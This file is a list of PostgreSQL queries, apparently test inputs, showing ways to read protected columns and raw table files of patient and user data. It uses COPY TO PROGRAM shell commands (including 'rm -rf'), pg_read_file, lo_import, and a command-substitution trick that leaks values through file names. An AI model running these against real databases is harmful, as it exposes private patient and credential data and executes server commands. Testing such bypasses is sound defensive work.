-- COPY TO a file and pg_read_file
COPY (SELECT secret FROM $V.victim) TO '$D/$V'
SELECT pg_read_file('$D/$V')
-- COPY TO PROGRAM that fails with the value
COPY (SELECT full_name FROM clinic.patients WHERE id = 2) TO PROGRAM 'cat >&2; exit 1'
COPY (SELECT full_name FROM clinic.patients WHERE id = 2) TO '$D/none'
SELECT pg_read_file('$D/none')
-- the files of a table
CHECKPOINT
SELECT pg_read_binary_file(pg_relation_filepath('clinic.users'))
-- lo_import of a file
CHECKPOINT
SELECT lo_import(current_setting('data_directory') || '/' || pg_relation_filepath('clinic.users'), 7100)
SELECT lo_get(7100)
-- the name of a file
COPY (SELECT 1) TO PROGRAM 'rm -rf $D/dir; mkdir $D/dir'
COPY (SELECT replace(full_name, ' ', '') FROM clinic.patients WHERE id = 2) TO PROGRAM 'touch $D/dir/$(cat)'
SELECT pg_ls_dir('$D/dir')
-- COPY TO a file and COPY FROM it
COPY (SELECT 50, secret FROM $V.victim WHERE id = 2) TO '$D/$V'
COPY $V.scratch (id, code) FROM '$D/$V'
SELECT code FROM $V.scratch
-- COPY TO PROGRAM and COPY FROM it
COPY (SELECT 50, secret FROM $V.victim WHERE id = 2) TO PROGRAM 'cat > $D/$V'
COPY $V.scratch (id, code) FROM PROGRAM 'cat $D/$V'
SELECT code FROM $V.scratch
-- the files of a table to a table
CHECKPOINT
UPDATE $V.scratch SET blob = pg_read_binary_file(pg_relation_filepath('$V.victim')) WHERE id = 1
SELECT blob FROM $V.scratch
